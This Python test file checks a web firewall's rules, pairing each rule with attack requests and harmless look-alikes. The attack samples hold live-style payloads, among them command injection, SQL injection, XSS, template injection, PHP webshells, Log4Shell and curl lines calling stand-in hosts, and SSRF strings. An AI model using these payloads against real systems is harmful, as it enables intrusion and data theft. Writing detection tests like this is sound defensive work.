"""An attack and a near miss for each rule of our own pack: the rule sees the one, not the other."""

import re
from typing import NamedTuple
from urllib.parse import quote

from juyong.engines.inspect.http import Peer, Request, Response

FORM = b"application/x-www-form-urlencoded"
_AGENT = b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
_ENCODED = re.compile(r"(%[0-9A-Fa-f]{2})")


class Sample(NamedTuple):
    """A request, its body, and what the origin answers."""

    request: Request
    body: bytes
    response: Response
    answer: bytes


class Case(NamedTuple):
    """A rule, its level, requests that the rule must see, and those that it must not."""

    rule: int
    level: int
    attacks: list[Sample]
    near: list[Sample]


def req(
    target=b"/",
    *,
    method=b"GET",
    version="HTTP/1.1",
    host=b"www.example",
    agent=_AGENT,
    accept=b"*/*",
    headers=(),
    kind=None,
    data=b"",
    answer=b"hello",
    status=200,
    answered=(),
):
    """Return a request; a header that is None is left out."""
    named = (
        *((b"Host", host), (b"User-Agent", agent), (b"Accept", accept), (b"Content-Type", kind)),
        (b"Content-Length", b"%d" % len(data) if data else None),
    )
    return Sample(
        Request(
            method=method,
            target=target,
            version=version,
            headers=(*((a, b) for a, b in named if b is not None), *headers),
            client=Peer(address="192.0.2.7", port=4711),
            server=Peer(address="192.0.2.1", port=80),
            unique="case",
        ),
        data,
        Response(
            status=status, version="HTTP/1.1", headers=((b"Content-Type", b"text/html"), *answered)
        ),
        answer,
    )


def arg(text):
    """Return a request with a text in its query; percent codes in the text stay."""
    pieces = _ENCODED.split(text.decode("utf-8"))
    value = "".join(
        piece if _ENCODED.fullmatch(piece) else quote(piece, safe="") for piece in pieces
    )
    return req(b"/a?q=" + value.encode())


def body(data, kind):
    """Return a request with a body."""
    return req(method=b"POST", kind=kind, data=data)


def upload(name, content=b"hello"):
    """Return a request with a file."""
    head = b'Content-Disposition: form-data; name="f"; filename="' + name + b'"'
    return _form(head, content)


def form(line):
    """Return a form with a field whose part has one more header."""
    return _form(b'Content-Disposition: form-data; name="f"\r\n' + line, b"hello")


def _form(head, content):
    data = b"--xyz\r\n" + head + b"\r\n\r\n" + content + b"\r\n--xyz--\r\n"
    return body(data, b"multipart/form-data; boundary=xyz")


def res(answer, *, status=200, headers=()):
    """Return a request that is answered so."""
    return req(answer=answer, status=status, answered=headers)


CASES: list[Case] = [
    Case(
        1140031,
        1,
        [
            arg(b";sleep 5"),
            arg(b"1|sleep 5;"),
            arg(b"x;ps aux"),
            arg(b";find / -name x -exec id \\;"),
            arg(b";scp x y@z.example:"),
            arg(b";id 2>&1"),
        ],
        [arg(b"Eat well; sleep 8 hours."), arg(b"find / on your keyboard"), arg(b"a; history")],
    ),
    Case(
        1140032,
        1,
        [
            arg(b';c"a"t /e"t"c/hosts'),
            arg(b"x;w`h`oami"),
            arg(b";a=who;b=ami;$a$b"),
            arg(b"|l's' -la"),
            arg(b";'i'd"),
            arg(b'x;"id";'),
        ],
        [
            arg(b"fish'n'chips; rock'n'roll"),
            arg(b"a=1; b=$5"),
            arg(b"the `if` and the `for`"),
            arg(b'a dog; "cat" is a word'),
        ],
    ),
    Case(
        1140033,
        1,
        [arg(b"x`curl x.example`"), arg(b"a.png`sleep 5`")],
        [arg(b"the command `curl` reads"), arg(b"use`git log`")],
    ),
    Case(
        1140034,
        1,
        [req(b"/ping/$(whoami)"), req(b"/a%7Cid"), req(agent=b"x`curl x.example`")],
        [req(b"/a$(b)"), req(b"/cat/ls"), req(agent=b"Mozilla/5.0 (compatible; curl; id)")],
    ),
    Case(
        1140035,
        1,
        [req(b"/ping/127.0.0.1;curl%20x.example"), req(b"/a&rm%20-rf%20x")],
        [req(b"/a;ping=1"), req(b"/salt&php%20"), req(b"/touch%20me")],
    ),
    Case(
        1140036,
        1,
        [arg(b"=cmd|' /C calc'!A0"), arg(b"a,@SUM(1+1)*cmd|' /C calc'!A0")],
        [arg(b"=SUM(A1:A9)"), arg(b"cmd | grep"), arg(b"-1|2")],
    ),
    Case(
        1140037,
        1,
        [arg(b"who%25CD:~0,0%25ami"), arg(b"^w^h^o^a^m^i"), arg(b"x & calc.exe")],
        [arg(b"x^a^b"), arg(b"50%: 0,5%"), arg(b"run calc.exe & wait")],
    ),
    Case(
        1150023,
        1,
        [
            body(b"--- !ruby/object:Gem::Installer\ni: x", b"application/x-yaml"),
            arg(b"cos%0Asystem%0A(S'id'"),
        ],
        [arg(b"ruby/object"), arg(b"a%0Acost%0Ab")],
    ),
    Case(
        1150024,
        1,
        [
            req(b"/a/%7B%7B7*7%7D%7D"),
            req(b"/%7B%7Bconfig%7D%7D"),
            req(agent=b"{% debug %}"),
            req(agent=b"<?php system($_GET[1]); ?>"),
        ],
        [req(b"/img/%7B%7Bitem.url%7D%7D"), req(b"/config"), req(b"/%7Bid%7D")],
    ),
    Case(
        1150025,
        1,
        [
            arg(b'{{_self.env.registerUndefinedFilterCallback("exec")}}'),
            arg(b"{{ ''.class }}"),
            arg(b"{%print(1)%}"),
            arg(b"${pageContext.request}"),
        ],
        [arg(b"{{ item.class }}"), arg(b"${page}"), arg(b"{{ itself }}"), arg(b"_self.env")],
    ),
    Case(
        1150026,
        1,
        [body(b"\xac\xed\x00\x05sr\x00\x11java", b"application/x-java-serialized-object")],
        [body(b"\xac\xed\x00\x06sr", b"application/x-java-serialized-object")],
    ),
    Case(
        1150027,
        1,
        [arg(b'{"constructor":{"prototype":{"admin":true}}}')],
        [arg(b'{"constructor":{"name":"prototype"}}')],
    ),
    Case(
        1160023,
        1,
        [
            arg(b"1 union values row(1,2)"),
            arg(b"1 union table users"),
            arg(b"x' union/**/values(1)"),
        ],
        [arg(b"the union values (some of them) its members"), arg(b"a union table")],
    ),
    Case(
        1130026,
        1,
        [
            arg(b"http:\\\\127.0.0.1\\"),
            arg("http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/".encode()),
            arg(b"http://localtest.me/"),
            arg(b"unix:/var/run/docker.sock"),
        ],
        [
            arg(b"http://latest.me/"),
            arg("see http://a.example/ ①".encode()),
            arg(b"unix: a system"),
        ],
    ),
    Case(
        1170017,
        1,
        [arg(b'<esi:include src="http://x.example/"/>'), arg(b"top['al'+'ert'](1)")],
        [arg(b"<esi>"), arg(b"top['a']"), arg(b"window[a + b]")],
    ),
    Case(
        1180014,
        1,
        [req(headers=[(b"X-Middleware-Subrequest", b"middleware")])],
        [req(headers=[(b"X-Middleware", b"1"), (b"X-Middleware-Prefetch", b"1")])],
    ),
    Case(1110001, 1, [req(method=b"TRACE")], [req(method=b"PATCH")]),
    Case(1110002, 1, [req(version="HTTP/3.7")], [req(version="HTTP/2.0")]),
    Case(1110003, 1, [req(host=None)], [req(host=b"a.example")]),
    Case(1110004, 2, [req(host=b"192.0.2.1:80")], [req(host=b"4.example")]),
    Case(1110005, 1, [req(host=b"a.example/?q=<b>")], [req(host=b"[2001:db8::1]:8080")]),
    Case(
        1110006,
        1,
        [req(headers=[(b"Host", b"b.example")])],
        [req(headers=[(b"Accept", b"a/b"), (b"Accept", b"c/d")])],
    ),
    Case(
        1110007,
        1,
        [req(headers=[(b"Content-Length", b"+5")])],
        [req(headers=[(b"Content-Length", b"0")])],
    ),
    Case(
        1110008,
        1,
        [req(headers=[(b"Transfer-Encoding", b"chunked, identity")])],
        [req(method=b"POST", headers=[(b"Transfer-Encoding", b"chunked")])],
    ),
    Case(
        1110009,
        1,
        [
            req(
                method=b"POST",
                headers=[(b"Transfer-Encoding", b"chunked"), (b"Content-Length", b"5")],
            )
        ],
        [req(method=b"POST", headers=[(b"Content-Length", b"5")])],
    ),
    Case(
        1110010,
        1,
        [
            req(headers=[(b"Transfer-Encoding", b"chunked")]),
            req(headers=[(b"Content-Length", b"7")]),
        ],
        [req(headers=[(b"Content-Length", b"0")])],
    ),
    Case(
        1110011,
        2,
        [req(method=b"POST")],
        [req(method=b"POST", headers=[(b"Content-Length", b"0")])],
    ),
    Case(1110012, 1, [arg(b"a%00b")], [arg(b"Secret%250015")]),
    Case(1110013, 1, [req(headers=[(b"X-A", b"a\x01b")])], [req(headers=[(b"X-A", b"a\tb")])]),
    Case(1110014, 2, [arg(b"a%01b")], [arg(b"a%0D%0Ab%09c")]),
    Case(1110015, 2, [arg(b"a%c0%ae")], [arg(b"%E4%B8%AD%E6%96%87")]),
    Case(1110016, 3, [arg(b"%e9t%e9")], [arg(b"%C3%A9t%C3%A9")]),
    Case(1110017, 3, [req(b"/?q=91.4%")], [req(b"/?q=91.4%25")]),
    Case(1110018, 3, [req(b"/?q=%253Cb")], [req(b"/?q=100%25+sure")]),
    Case(1110019, 2, [req(b"/?q=%u003cb")], [req(b"/?q=%u4e2d")]),
    Case(1110020, 1, [req(b"/a#/../b")], [req(b"/a%23b")]),
    Case(
        1110021,
        1,
        [req(method=b"POST", kind=b"application/json; charset=utf-7")],
        [req(method=b"POST", kind=b"text/plain; charset=GBK")],
    ),
    Case(
        1110022,
        1,
        [req(method=b"POST", kind=b"application/json; charset=utf-8; charset=utf-7")],
        [req(method=b"POST", kind=b"application/json; charset=utf-8")],
    ),
    Case(
        1110023,
        2,
        [req(method=b"POST", kind=b"text/xml, a=b")],
        [req(method=b"POST", kind=b"text/plain;charset=utf-8")],
    ),
    Case(
        1110024,
        1,
        [form(b"Content-Type: text/plain; charset=utf-7")],
        [form(b"Content-Type: text/plain; charset=utf-8")],
    ),
    Case(
        1110025,
        1,
        [form(b"Content-Transfer-Encoding: base64")],
        [form(b"Content-Transfer-Encoding: binary")],
    ),
    Case(1110026, 1, [body(b"{", b"application/json")], [body(b"{}", b"application/json")]),
    Case(
        1110027,
        1,
        [body(b"--a\n", b"multipart/form-data; boundary=a")],
        [body(b"--a--", b"text/plain")],
    ),
    Case(1110028, 2, [body(b'{"a":1}', FORM)], [body(b"a={}", FORM)]),
    Case(
        1110029,
        1,
        [req(headers=[(b"Range", b"bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6")])],
        [req(headers=[(b"Range", b"bytes=0-99,200-299")])],
    ),
    Case(
        1110030,
        1,
        [req(headers=[(b"X-Original-URL", b"/admin")])],
        [req(headers=[(b"X-Requested-With", b"XMLHttpRequest")])],
    ),
    Case(
        1110031,
        2,
        [req(headers=[(b"X-HTTP-Method-Override", b"DELETE")])],
        [req(headers=[(b"If-Match", b"1")])],
    ),
    Case(1110032, 2, [req(agent=None)], [req(agent=b"curl/8.0")]),
    Case(1110033, 3, [req(accept=None)], [req()]),
    Case(1110034, 3, [req(b"/?a=abc&a=def")], [req(b"/?p[]=1&p[]=2")]),
    Case(
        1110035,
        1,
        [req(headers=[(b"Connection", b"keep-alive, close")])],
        [req(headers=[(b"Connection", b"keep-alive")])],
    ),
    Case(1110036, 2, [req(b"/\xe9")], [req(b"/%e9")]),
    Case(1110037, 1, [req(b"/?_charset_=utf-7")], [req(b"/?_charset_=utf-8")]),
    Case(1110038, 2, [req(b"/?_method=DELETE")], [req(b"/?_method=simple")]),
    Case(
        1120001,
        1,
        [req(agent=b"sqlmap/1.7#stable")],
        [req(agent=b"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/140.0")],
    ),
    Case(
        1120002,
        1,
        [req(headers=[(b"Acunetix-Aspect", b"enabled")])],
        [req(headers=[(b"X-Scan-Id", b"7")])],
    ),
    Case(1120003, 1, [req(b"/nmaplowercheck1698")], [req(b"/maps/lowercheck")]),
    Case(
        1120004,
        3,
        [req(agent=b"python-requests/2.32")],
        [req(agent=b"Mozilla/5.0 (compatible; curly)")],
    ),
    Case(1120005, 1, [req(agent=b"x' or 1=1--")], [req(agent=b"Tom's browser or so 1.0")]),
    Case(1130001, 1, [arg(b"..%2F..%2Fa")], [arg(b"Use ../images/logo.png here")]),
    Case(1130002, 1, [req(b"/a/..%2Fb")], [req(b"/a/..b/c...d")]),
    Case(1130003, 2, [arg(b"../a")], [arg(b"a.. b")]),
    Case(1130004, 1, [req(b"/?f=%252e%252e%252f%252e%252e%252fa")], [req(b"/?v=1..%2F2")]),
    Case(1130005, 1, [arg(b"/etc/passwd")], [arg(b"we sell etc, and passwords too")]),
    Case(1130006, 1, [arg(b"c:\\windows\\win.ini")], [arg(b"Windows wins in system 32 of 64")]),
    Case(1130007, 1, [req(b"/.git/config")], [req(b"/git/configuration")]),
    Case(1130008, 1, [req(b"/dump%2Erdb")], [req(b"/a.backup.html")]),
    Case(1130009, 1, [arg(b"http://192.0.2.9/x.txt")], [arg(b"http://shop.example/192.0.2.9")]),
    Case(1130010, 1, [arg(b"http://x.example/a.txt?")], [arg(b"http://x.example/a?b=c")]),
    Case(
        1130011,
        1,
        [arg(b"php://filter/convert.base64-encode/resource=index")],
        [arg(b"The file: // comment of http://a.example")],
    ),
    Case(
        1130012,
        1,
        [arg(b"x; include('http://x.example/a')")],
        [arg(b"Prices include http://a.example offers")],
    ),
    Case(
        1130013,
        1,
        [arg(b"http://100.100.100.200/latest/meta-data/")],
        [arg(b"http://100.100.100.example/latest")],
    ),
    Case(1130014, 1, [arg(b"http://127.0.0.1:6379/")], [arg(b"http://localhost.example/")]),
    Case(1130015, 2, [arg(b"http://192.168.1.1/")], [arg(b"http://a.example/192.168.1.1")]),
    Case(1130016, 1, [upload(b"a.php;.png")], [upload(b"php-notes.txt")]),
    Case(
        1130017,
        1,
        [upload(b"a.png", b"GIF89a<?php system($_GET[1]);")],
        [upload(b"a.xml", b"<?xml version='1.0'?><a/>")],
    ),
    Case(1130018, 1, [req(b"/uploads/c99.php")], [req(b"/seashells.php")]),
    Case(1130019, 1, [arg(b"@eval(base64_decode($_POST[z0]))")], [arg(b"evaluate (base64) posts")]),
    Case(1130020, 2, [req(b"/actuator/heapdump")], [req(b"/console-games/index")]),
    Case(1130021, 1, [req(b"/a/.secret/b")], [req(b"/.well-known/security.txt")]),
    Case(1130022, 1, [arg(b"cat /etc/subuid")], [arg(b"backups of sql, in zip")]),
    Case(
        1130023, 1, [req(b"/a?conf[path]=https://x.example/")], [req(b"/a?url=https://x.example/")]
    ),
    Case(1130024, 1, [arg(b"http?")], [arg(b"https://a.example/?")]),
    Case(1130025, 1, [req(headers=[(b"X-A", b"0x5c0x2e./")])], [req(headers=[(b"X-A", b"0x5c")])]),
    Case(1140001, 1, [arg(b"a; cat /etc/x")], [arg(b"I like a cat; time flies / so it goes")]),
    Case(
        1140002,
        1,
        [arg(b"x|id"), arg(b"8.8.8.8\nid"), arg(b"x=`id`")],
        [arg(b"salt & pepper"), arg(b"Type it:\n\n```sh\nls\n```"), arg(b"the `perl` there")],
    ),
    Case(1140003, 1, [arg(b"1;id;")], [arg(b"see above; ps attached")]),
    Case(1140004, 1, [arg(b"/bin/sh -c id")], [arg(b"the bin / of usr")]),
    Case(1140005, 1, [arg(b"cat${IFS}a")], [arg(b"costs $IF S{a, b}")]),
    Case(1140006, 1, [arg(b"x=`cat b`")], [arg(b"use `git log` here")]),
    Case(
        1140007,
        1,
        [arg(b"curl http://x.example/a.sh")],
        [arg(b"curl is a program, http a protocol")],
    ),
    Case(1140008, 1, [req(agent=b"() { :;}; echo a")], [arg(b"call f() { here")]),
    Case(1140009, 1, [arg(b"/???/??t /???/p??s??")], [arg(b"who? what? / where? when?")]),
    Case(1140010, 1, [arg(b"c''at /x")], [arg(b"it's 'quoted' so")]),
    Case(1140011, 1, [arg(b"cmd /c dir")], [arg(b"The cmd key and the net user base")]),
    Case(1140012, 1, [arg(b"x & type c:\\a.txt")], [arg(b"copy & paste; type fast")]),
    Case(1140013, 1, [arg(b"Invoke-Expression $x")], [arg(b"set-up and start-up of a process")]),
    Case(1140014, 2, [arg(b"wget x")], [arg(b"the wget manual")]),
    Case(1140015, 2, [arg(b"a|b -c")], [arg(b"a | B & C")]),
    Case(1140016, 3, [arg(b"sort -u")], [arg(b"sort these")]),
    Case(1140017, 1, [arg(b"<!--#exec cmd=id-->")], [arg(b"<!-- execute -->")]),
    Case(1140018, 1, [arg(b"-oProxyCommand=x")], [arg(b"--output and --exec")]),
    Case(1140019, 1, [arg(b"IF NOT EXIST c:\\x (cmd)")], [arg(b"if you exist in a loop")]),
    Case(1140020, 2, [arg(b"ansible all -m ping")], [arg(b"mid-2020, sub-zero")]),
    Case(1140021, 2, [req(agent=b"cat /proc/cpuinfo")], [req(agent=b"Mozilla/5.0 (Windows; sh)")]),
    Case(1140022, 3, [arg(b"strace ifconfig; ls")], [arg(b"strace it")]),
    Case(1150001, 1, [arg(b"<?php echo 1;")], [arg(b"<?xml version='1.0'?> or < ? php")]),
    Case(1150002, 1, [arg(b"passthru('a')")], [arg(b"the file_get function; passthru doors")]),
    Case(
        1150003,
        1,
        [arg(b"a; system('id');")],
        [
            arg(b"Turn left (1 mile); copy (that)"),
            arg(b"file(s). Inline"),
            arg(b"a file (e.g. a pipe)"),
        ],
    ),
    Case(1150004, 1, [arg(b"$_GET[a]")], [arg(b"$100 a month = $1200")]),
    Case(1150005, 1, [arg(b"O:4:%22Evil%22:1:{s:1:%22a%22;i:1;}")], [arg(b"O:4 is the score")]),
    Case(1150006, 1, [arg(b"-d allow_url_include=1")], [arg(b"safe_mode was removed")]),
    Case(
        1150007, 1, [arg(b"require('child_process')")], [arg(b"we require (a process) of children")]
    ),
    Case(1150008, 1, [req(b"/?__proto__[a]=1")], [arg(b"the prototype, a constructor")]),
    Case(1150009, 1, [req(agent=b"${jndi:ldap://x.example/a}")], [arg(b"${name} and ${price}")]),
    Case(
        1150010,
        1,
        [arg(b"java.lang.Runtime")],
        [arg(b"Java runtime environments and Javanese languages")],
    ),
    Case(1150011, 1, [arg(b"rO0ABXNyABFqYXZhLnV0aWw")], [arg(b"error0ABC")]),
    Case(1150012, 1, [arg(b"%{(%23a=1)}")], [arg(b"100% {a, b} #context")]),
    Case(1150013, 1, [arg(b"{{7*7}}")], [arg(b"{{ user.name }} {a}")]),
    Case(
        1150014,
        1,
        [arg(b"__import__('os').system('id')")],
        [arg(b"lambda: a letter; import of goods from os")],
    ),
    Case(1150015, 1, [arg(b"Kernel.exec('id')")], [arg(b"the kernel executes a process. Openly.")]),
    Case(1150016, 2, [arg(b"print(md5(1))")], [arg(b"call me (maybe")]),
    Case(1150017, 2, [arg(b"${a}")], [arg(b"$ {a")]),
    Case(
        1150018,
        1,
        [arg(b"System.Diagnostics.Process.Start(1)")],
        [arg(b"the system. Diagnostics of a process")],
    ),
    Case(1150019, 2, [arg(b"aW52b2tlcnRyYW5zZm9ybWVy")], [arg(b"aW52b2ljZTogNyBwYWdlcw")]),
    Case(
        1150020,
        1,
        [arg(b"cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp")],
        [arg(b"Y2hpbGRyZW4gb2YgdGhlIHByb2Nlc3M")],
    ),
    Case(1150021, 1, [arg(b"(system)(ls);")], [arg(b"section 2(a)(1); see (below)")]),
    Case(1150022, 3, [arg(b"checkDate(1)")], [arg(b"50 (one)")]),
    Case(1160001, 1, [arg(b"x' or '1'='1")], [arg(b"it's 5 o'clock or so")]),
    Case(
        1160002,
        1,
        [arg(b"1 union select 1,2 from users")],
        [arg(b"The union will select delegates from each town.")],
    ),
    Case(1160003, 1, [arg(b"substring(a,1,1)=char(97)")], [arg(b"count (all) users")]),
    Case(1160004, 1, [arg(b"1 and sleep(5)")], [arg(b"we sleep (5 hours)")]),
    Case(1160005, 1, [arg(b"1 or 1=1")], [arg(b"width=5 and height=7 in the text")]),
    Case(
        1160006,
        1,
        [arg(b"x' or 'a' like 'a"), arg(b"x' and 1 in (1)")],
        [
            arg(b'"a" and \'b\', or "c".'),
            arg(b"If 'limit' is omitted or None"),
            arg(b"<b class='c'>19.9<br>"),
        ],
    ),
    Case(
        1160007, 1, [arg(b"1; drop table users")], [arg(b"select a fruit; drop it into the basket")]
    ),
    Case(
        1160008,
        1,
        [arg(b"from information_schema.tables")],
        [arg(b"user tables and system objects")],
    ),
    Case(1160009, 1, [arg(b"admin'--")], [arg(b"it is 5 -- or 6")]),
    Case(1160010, 1, [arg(b"1 into outfile 1")], [arg(b"order by 5 in the evening, limit 3")]),
    Case(
        1160011,
        1,
        [arg(b"select name from users where id=1")],
        [arg(b"Select the best from our range, where you live.")],
    ),
    Case(1160012, 2, [arg(b"a'|'b")], [arg(b"rock 'n' roll")]),
    Case(1160013, 2, [arg(b"select (a) from b")], [arg(b"where do you come from")]),
    Case(1160014, 2, [arg(b"0x61646d696e")], [arg(b"0x1F, char a")]),
    Case(1160015, 3, [arg(b"a=(b)*[c]+{d}-<e>")], [arg(b"Mr. O'Hara (senior)")]),
    Case(1160016, 3, [arg(b"a';")], [arg(b"rock and roll")]),
    Case(1160017, 1, [arg(b"password::int")], [arg(b"std::string and a::b")]),
    Case(1160018, 3, [arg(b"count(=")], [arg(b"the count of the day")]),
    Case(1160019, 1, [arg(b"find_in_set(1, a)")], [arg(b"the coalescing of (two) drops")]),
    Case(1160020, 1, [arg(b"1) like (2")], [arg(b"if (2) or so, like (that one)")]),
    Case(1160021, 1, [req(b"/?user[$ne]=x")], [req(b"/?user[name]=x&price$=1")]),
    Case(1160022, 1, [arg(b"x', $where: '1 == 1")], [arg(b"{'price': '$5'}")]),
    Case(1160031, 1, [arg(b"*)(uid=*))(|(uid=*")], [arg(b"(a = b) (c = d)")]),
    Case(
        1160041,
        1,
        [arg(b"x'] | //user/*[contains(*,'x")],
        [arg(b"//comment: count (all) // see above")],
    ),
    Case(
        1160051,
        1,
        [arg(b"<!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]>")],
        [arg(b"<!doctype html> is how pages start")],
    ),
    Case(
        1160052,
        1,
        [body(b"<!DOCTYPE a SYSTEM 'http://x.example/a'><a/>", b"text/xml")],
        [body(b"<!DOCTYPE a [<!ELEMENT a ANY>]><a/>", b"text/xml")],
    ),
    Case(1170001, 1, [arg(b"<svg onload=alert(1)>")], [arg(b"a <b and c> d")]),
    Case(1170002, 1, [arg(b"<script>alert(1)</script>")], [arg(b"the <description> tag")]),
    Case(
        1170003,
        1,
        [arg(b'" onmouseover=alert(1) "'), arg(b"onload")],
        [arg(b"the option one=1 on=2"), arg(b"ONLINE")],
    ),
    Case(
        1170004,
        1,
        [arg(b"javascript:alert(1)")],
        [arg(b"JavaScript: the good parts, data: numbers")],
    ),
    Case(1170005, 1, [arg(b"document.cookie")], [arg(b"the window. Location: top of the page")]),
    Case(1170006, 1, [arg(b'";alert(1)//')], [arg(b"print (2 copies) and import")]),
    Case(
        1170007,
        1,
        [arg(b"<p style='width:expression(alert(1))'>")],
        [arg(b"expression of joy: url in style")],
    ),
    Case(1170008, 1, [arg(b"[][(![]+[])]")], [arg(b"a[0][1] += b[2]; []")]),
    Case(1170009, 1, [arg(b"+ADw-script+AD4-")], [arg("F\u00fchrung> \u00bc Liter".encode())]),
    Case(1170010, 2, [arg(b"<img src=x>")], [arg(b"a <p> b = c")]),
    Case(1170011, 2, [arg(b"<b>a</b>")], [arg(b"a < b > c")]),
    Case(
        1170012,
        1,
        [arg(b"{{constructor.constructor(1)()}}")],
        [arg(b"a constructor [prototype] of ng")],
    ),
    Case(1170013, 2, [arg(b"';a(1)//")], [arg(b"'a' (b), c")]),
    Case(1180001, 1, [arg(b"a%0d%0aSet-Cookie: b=c")], [arg(b"Wine list%0d%0aHosts: Anna")]),
    Case(1180002, 1, [arg(b"a%0d%0aGET /admin HTTP/1.1")], [arg(b"Get a room%0d%0aHTTP is old")]),
    Case(1180003, 1, [req(headers=[(b"X-A", b"a\nb")])], [req(headers=[(b"X-A", b"a b")])]),
    Case(1180004, 1, [req(b"/a%0d%0ab")], [req(b"/a?q=b%0d%0ac")]),
    Case(
        1180005,
        1,
        [arg(b"<meta http-equiv=Set-Cookie content='a'>")],
        [arg(b"a cookie = a biscuit; domain of cooks")],
    ),
    Case(
        1180006,
        1,
        [req(b"/?PHPSESSID=1", headers=[(b"Referer", b"http://x.example/")])],
        [req(b"/?PHPSESSID=1", headers=[(b"Referer", b"http://www.example/a")])],
    ),
    Case(1180007, 2, [req(b"/?PHPSESSID=1")], [req(b"/?session_name=1")]),
    Case(1180008, 1, [upload(b"a.txt%0d%0ab")], [upload(b"a; b.txt")]),
    Case(
        1180009,
        1,
        [arg(b"a@b.example%0aBcc: c@d.example")],
        [arg(b"Dear Ann,%0aTo be or not to be")],
    ),
    Case(
        1180010,
        1,
        [req(headers=[(b"Content-Disposition", b"${1+1}")])],
        [req(accept=b"text/html;q=0.9")],
    ),
    Case(
        1180011,
        2,
        [req(b"/?my_login_token=1", headers=[(b"Referer", b"http://x.example/")])],
        [req(b"/?my_login_token=1", headers=[(b"Referer", b"http://www.example/a")])],
    ),
    Case(
        1180012,
        1,
        [req(headers=[(b"X-A", b"a%0d%0aSet-Cookie: b")])],
        [req(headers=[(b"X-A", b"a%0ab")])],
    ),
    Case(
        1180013,
        1,
        [req(headers=[(b"Cookie", b"$Version=1; a=b")])],
        [req(headers=[(b"Cookie", b"version=1; a=b")])],
    ),
    Case(
        1190001,
        1,
        [res(b"You have an error in your SQL syntax; check")],
        [res(b"Learn SQL without an error in your notes")],
    ),
    Case(
        1190002,
        1,
        [res(b"<b>Warning</b>:  include(a.php): failed to open stream")],
        [res(b"<b>Warning!</b> Wet floor")],
    ),
    Case(
        1190003,
        1,
        [res(b"java.lang.NullPointerException at com.a.B.c(B.java:7)")],
        [res(b"A Java language exception list")],
    ),
    Case(
        1190004,
        1,
        [res(b"Traceback (most recent call last): a")],
        [res(b"Trace back the most recent call")],
    ),
    Case(
        1190005,
        1,
        [res(b"Server Error in '/' Application.")],
        [res(b"The server application has no error")],
    ),
    Case(1190006, 1, [res(b"<?php $a = 1;")], [res(b"<?xml version='1.0'?>")]),
    Case(
        1190007, 1, [res(b"-----BEGIN RSA PRIVATE KEY-----")], [res(b"-----BEGIN PUBLIC KEY-----")]
    ),
    Case(
        1190008,
        1,
        [res(b"<html><title>Index of /backup</title>")],
        [res(b"<title>Index of authors</title>")],
    ),
    Case(1190009, 1, [res(b"<title>c99shell</title>")], [res(b"<title>Sea shells</title>")]),
    Case(1190010, 1, [res(b"<title>phpinfo()</title>")], [res(b"<title>PHP info</title>")]),
    Case(1190011, 2, [res(b"error in /var/www/html/a.php")], [res(b"see /about/www")]),
    Case(1190012, 2, [res(b"", status=500)], [res(b"", status=404)]),
    Case(
        1190013,
        2,
        [res(b"", headers=[(b"X-Powered-By", b"PHP/5")])],
        [res(b"", headers=[(b"X-Frame-Options", b"DENY")])],
    ),
]
